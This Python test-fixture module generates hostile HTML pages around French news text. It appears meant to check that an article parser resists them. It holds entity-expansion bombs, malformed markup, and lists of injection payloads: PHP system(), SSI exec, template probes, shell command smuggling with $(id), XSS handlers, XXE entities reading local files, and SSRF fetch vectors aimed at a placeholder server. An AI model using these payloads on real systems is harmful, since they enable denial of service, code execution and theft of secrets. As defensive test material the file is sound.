"""Pages made by hand to hurt whoever parses them: to exhaust it, to run something in it, to have it fetch or read."""

from __future__ import annotations

from collections.abc import Iterator

PROSE = "Le syndicat des eaux de la Vérone a voté jeudi le remplacement de quarante kilomètres de conduites en plomb. "
BODY = "".join(f"<p>{PROSE}{number} foyers sont raccordés.</p>" for number in range(2, 8))
PARSED = {
    "entities that grow": (
        "<!DOCTYPE html [<!ENTITY a0 'lol'>"
        + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
        + "]><html><body><h1>&a11;</h1>{body}&a11;</body></html>"
    ),
    "quadratic entity": "<!DOCTYPE html [<!ENTITY b '" + "b" * 100_000 + "'>]><p>" + "&b;" * 20_000 + "</p>{body}",
    "endless entity": "<!DOCTYPE html [<!ENTITY a '&b;'><!ENTITY b '&a;'>]><p>&a;</p>{body}",
    "parameter entities": "<!DOCTYPE html [<!ENTITY % p '<!ENTITY q \"x\">'> %p; %p;]><p>&q;</p>{body}",
    "references beyond Unicode": "<p>&#x110000;&#xFFFFFFFFFF;&#-1;&#55296;&#0;&#x;&;&unknown;</p>{body}",
    "100,000 references": "<p>" + "&eacute;" * 100_000 + "</p>{body}",
    "references without semicolons": "<p>" + "&eacute&amp&lt" * 20_000 + "</p>{body}",
    "CDATA everywhere": "<![CDATA[" * 5_000 + "{body}" + "]]>" * 5_000,
    "processing instructions": "<?php system('id'); ?>" * 5_000 + "{body}<?xml-stylesheet href='x.css'?>",
    "conditional comments": "<!--[if IE]><!-->" * 5_000 + "{body}",
    "comment that never ends": "{body}<!-- " + "- " * 100_000,
    "comment in a comment": "<!-- <!-- --> -->" * 5_000 + "{body}",
    "two documents": "<html><body>{body}</body></html><html><body>{body}</body></html>",
    "head after body": "<body>{body}</body><head><title>Les conduites</title><meta charset='utf-16'></head>",
    "1,000 bodies": "<body>" * 1_000 + "{body}",
    "1,000 heads": "<head><title>Les conduites</title></head>" * 1_000 + "{body}",
    "title that never ends": "<title>Les conduites {body}",
    "textarea that never ends": "<textarea>{body}",
    "script that never ends": "{body}<script>" + "if (a < b) { '</scr' + 'ipt>' }" * 5_000,
    "style that never ends": "{body}<style>p::after { content: '</p>' }" * 2,
    "plaintext": "{body}<plaintext>" + "<p>" * 10_000,
    "xmp and listing": "<xmp>{body}</xmp><listing>{body}</listing>",
    "noscript in head": "<head><noscript>{body}</noscript></head>",
    "template": "<template>" * 1_000 + "{body}",
    "frameset": "<frameset>" + "<frame src='/a'>" * 1_000 + "<noframes>{body}</noframes></frameset>",
    "select in select": "<select><option>" * 5_000 + "{body}",
    "forms in forms": "<form>" * 5_000 + "{body}" + "<input name=a value='" + "x" * 100_000 + "'>",
    "buttons in buttons": "<button>" * 2_000 + "{body}",
    "links in links": "<a href='/a'>" * 5_000 + "{body}",
    "formatting crossed": "<b><i><u><b><i><u><p>" * 500 + "{body}" + "</b></u></i>" * 500,
    "crossed blocks": "<p><b><div></p></b>" * 1_000 + "{body}",
    "tables without rows": "<table>" * 500 + "{body}",
    "cells without tables": "<td><tr><th>" * 3_000 + "{body}",
    "table of 40,000 cells": "<table>" + ("<tr>" + "<td>12,5</td>" * 200 + "</tr>") * 200 + "</table>{body}",
    "lists 500 deep": "<ul><li>" * 500 + "{body}",
    "definition lists": "<dl><dt>a<dd>b" * 10_000 + "{body}",
    "blockquotes 1,000 deep": "<blockquote>" * 1_000 + "{body}",
    "sections 2,000 deep": "<section><article>" * 1_000 + "{body}",
    "5,000 articles": "<article><h2>Un titre du jour</h2><p>Une phrase.</p></article>" * 5_000 + "{body}",
    "5,000 headings": "<h1>Les conduites de la Vérone</h1>" * 5_000 + "{body}",
    "one paragraph 5,000 times": f"<p>{PROSE}</p>" * 5_000,
    "one paragraph of a megabyte": "<p>" + PROSE * 9_000 + "</p>",
    "words in spans": "".join(f"<span>{word} </span>" for word in (PROSE * 800).split()),
    "letters in spans": "<p>" + "".join(f"<span>{letter}</span>" for letter in PROSE * 50) + "</p>",
    "10,000 images": "<figure><img src='a.jpg' alt='Une vue'><figcaption>Photo A. B.</figcaption></figure>" * 10_000,
    "svg": "<svg>" + "<g><path d='M0 0L1 1'/><text>Plan</text>" * 5_000 + "</svg>{body}",
    "svg with html": "<svg><foreignObject>{body}</foreignObject></svg>",
    "mathml": "<math>" + "<mrow><mi>x</mi>" * 2_000 + "</math>{body}",
    "namespaces": "<x:y xmlns:x='urn:x'><x:z>" * 1_000 + "{body}",
    "unknown tags": "".join(f"<tag{n}>" for n in range(5_000)) + "{body}",
    "tag name of a megabyte": "<" + "a" * 1_000_000 + ">{body}",
    "tag with controls": "<p\x01\x02\x7f>{body}</p\x00>",
    "attribute of a megabyte": "<p title='" + "é" * 500_000 + "'>{body}",
    "attribute names": "<p " + " ".join(f"on{n}" for n in range(30_000)) + ">{body}",
    "the same attribute": "<p " + "class='a' " * 50_000 + ">{body}",
    "50,000 classes": "<div class='" + " ".join(f"c{n}" for n in range(50_000)) + "'>{body}</div>",
    "50,000 ids": "".join(f"<i id='c{n}'></i>" for n in range(50_000)) + "{body}",
    "quotes that never close": '<p title="' + "x='" * 50_000 + ">{body}",
    "equals signs": "<p " + "=" * 100_000 + ">{body}",
    "slashes": "<p" + "/" * 200_000 + ">{body}",
    "end tags only": "</p></div></body></html>" * 20_000 + "{body}",
    "angle brackets": "<<>><</>>" * 30_000 + "{body}",
    "exclamation marks": "<!" * 50_000 + "{body}",
    "dashes": "<!--" + "-" * 300_000 + "{body}",
    "spaces": "<p>" + " " * 1_000_000 + "</p>{body}",
    "no-break spaces": "<p>" + "\u00a0" * 500_000 + "</p>{body}",
    "line breaks": "<p>" + "\r\n" * 300_000 + "</p>{body}",
    "separators": "<p>" + "\u2028\u2029\x85" * 50_000 + "</p>{body}",
    "turned words": "<p>\u202e" + "".join("\u2066" for _ in range(5_000)) + "</p>{body}",
    "invisible letters": "<p>" + "\u200b\u200d\ufeff\u00ad" * 30_000 + "</p>{body}",
    "piled accents": "<p>e" + "\u0301" * 200_000 + "</p>{body}",
    "emoji": "<p>" + "👩‍👩‍👧‍👦" * 20_000 + "</p>{body}",
    "private and unassigned": "<p>\ue000\uffff\ufffe\U000f0000\U0010ffff</p>{body}",
    "years": "<p>" + "2023 " * 60_000 + "</p>{body}",
    "clock": "<p>" + "12h30 12:30 " * 40_000 + "</p>{body}",
    "agencies": "<p>" + "(AFP) - " * 40_000 + "</p>{body}",
    "read also": "<p>Lire aussi : " * 5_000 + "{body}",
    "reading time": "<p>Temps de lecture : 3 min</p>" * 5_000 + "{body}",
    "bylines": "<p>Par Jeanne Petit, avec AFP</p>" * 5_000 + "{body}",
    "updates": "<p>Mis à jour le 12/03/2021 à 12h30</p>" * 5_000 + "{body}",
    "cookie walls": "<div class='cookie-consent paywall newsletter'>" * 1_000 + "{body}",
    "deep JSON-LD": "<script type='application/ld+json'>" + '{"a":' * 50_000 + "</script>{body}",
    "wide JSON-LD": "<script type='application/ld+json'>[" + '{"@type":"NewsArticle"},' * 50_000 + "{}]</script>{body}",
    "JSON-LD numbers": "<script type='application/ld+json'>{\"dateCreated\": " + "9" * 100_000 + "}</script>{body}",
    "JSON-LD cut": '<script type=\'application/ld+json\'>{"@type": "NewsArticle", "headline": "Les</script>{body}',
    "JSON-LD graph of itself": (
        '<script type=\'application/ld+json\'>{"@graph": [{"@id": "#a", "mainEntity": {"@id": "#a"}}]}</script>{body}'
    ),
    "1,000 JSON-LD": '<script type=\'application/ld+json\'>{"@type":"NewsArticle","author":"A"}</script>' * 1_000,
    "meta by the thousand": "<meta property='og:title' content='Les conduites'>" * 20_000 + "{body}",
    "dates that are none": (
        "<meta property='article:published_time' content='2023-99-99T99:99:99+99:99'>"
        "<time datetime='-0001-00-00'>hier</time>{body}"
    ),
    "date of a megabyte": "<meta property='article:published_time' content='" + "1" * 1_000_000 + "'>{body}",
    "language of a megabyte": "<html lang='" + "fr-" * 300_000 + "'>{body}",
    "canonical that is no address": "<link rel='canonical' href='http://[::1'>{body}",
    "addresses that are none": "<a href='http://[' title=x>a</a><a href='//%00@:99999/'>b</a>" * 500 + "{body}",
    "microdata": "<div itemscope itemtype='https://schema.org/NewsArticle'>" * 1_000 + "{body}",
    "shadow roots": "<x-a><template shadowrootmode=open>{body}</template></x-a>",
    "bidi title": "<title>\u202eselpmexe</title>{body}",
    "half an entity at the end": "{body}&eacut",
    "half a character at the end": "{body}é",
}
"""Text of each page by name; `{body}` is an article."""
RUN = (
    "<script>while (true) {}</script>",
    "<img src=x onerror='while(1){}'>",
    "<a href='javascript:while(1){}'>lien</a>",
    "<body onload='fetch(\"{server}\")'>",
    "<style>@import '{server}';</style>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "<?php echo file_get_contents('{file}'); ?>",
    "<!--#include virtual='{file}' --><!--#exec cmd='id' -->",
    "<esi:include src='{server}'/>",
    "<math><mtext></p><img src onerror=alert(1)></mtext></math>",
    "%n%n%n%s%s$(id)`id`;id|id",
    "__import__('os').system('id')",
)
"""What a careless program would run."""
FETCH = (
    "<!DOCTYPE html [<!ENTITY x SYSTEM '{server}'>]><p>&x;</p>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file://{file}'>]><p>&x;</p>",
    "<!DOCTYPE html [<!ENTITY % x SYSTEM '{server}'> %x;]>",
    "<!DOCTYPE html SYSTEM '{server}'>",
    "<!DOCTYPE html PUBLIC '-//X//X//FR' '{server}'>",
    "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{server}'?>",
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{file}' parse='text'/>",
    "<meta http-equiv='refresh' content='0; url={server}'>",
    "<base href='{server}'>",
    "<link rel='stylesheet' href='{server}'><link rel='preload' href='{server}'><link rel='canonical' href='{server}'>",
    "<iframe src='{server}'></iframe><iframe srcdoc='<img src={server}>'></iframe>",
    "<object data='{server}'></object><embed src='{server}'><applet code='{server}'></applet>",
    "<img src='{server}' srcset='{server} 2x'><picture><source srcset='{server}'></picture>",
    "<video src='{server}' poster='{server}'></video><audio src='{server}'></audio>",
    "<form action='{server}' method='post'><input name='a' value='b'></form>",
    "<a href='{server}' ping='{server}'>Lire la suite</a>",
    "<script src='{server}'></script>",
    "<div style='background: url({server})'></div>",
    "<html manifest='{server}'>",
    '<script type=\'application/ld+json\'>{{"@context": "{server}", "@type": "NewsArticle", "url": "{server}"}}</script>',
    "<link rel='amphtml' href='{server}'><link rel='alternate' type='application/json+oembed' href='{server}'>",
    "<meta property='og:url' content='{server}'><meta property='og:image' content='{server}'>",
)
"""What a careless program would fetch or read: `{server}` is an address that counts its visitors, `{file}` a secret."""
CHARSETS = (
    "utf-16",
    "utf-16le",
    "utf-32",
    "utf-7",
    "iso-2022-jp",
    "x-user-defined",
    "base64",
    "rot13",
    "idna",
    "",
    "😀",
)


def hostile_pages(server: str, secret: str) -> Iterator[tuple[str, bytes]]:
    """Yield names and pages; `server` is the address and `secret` the file that none of them may reach."""
    for name, text in PARSED.items():
        yield name, text.replace("{body}", BODY).encode("utf-8", "surrogatepass")
    yield (
        "half a character at the very end",
        PARSED["half a character at the end"].replace("{body}", BODY).encode()[:-1],
    )
    for group, snippets in (("run", RUN), ("fetch", FETCH)):
        for number, snippet in enumerate(snippets):
            filled = snippet.replace("{server}", f"{server}/{group}{number}").replace("{file}", secret)
            yield (
                f"{group} {number}",
                f"{filled}<html><body><h1>Les conduites</h1>{filled}{BODY}</body></html>".encode(),
            )
    for charset in CHARSETS:
        page = f"<html><head><meta charset='{charset}'><title>Les conduites</title></head><body>{BODY}</body></html>"
        yield f"says {charset!r}, is UTF-8", page.encode()
    for start in (
        b"\xff\xfe",
        b"\xfe\xff",
        b"\x00\x00\xfe\xff",
        b"+/v8-",
        b"\xef\xbb\xbf\xef\xbb\xbf",
        b"\x1f\x8b\x08",
        b"PK\x03\x04",
    ):
        yield f"begins with {start!r}", start + BODY.encode()
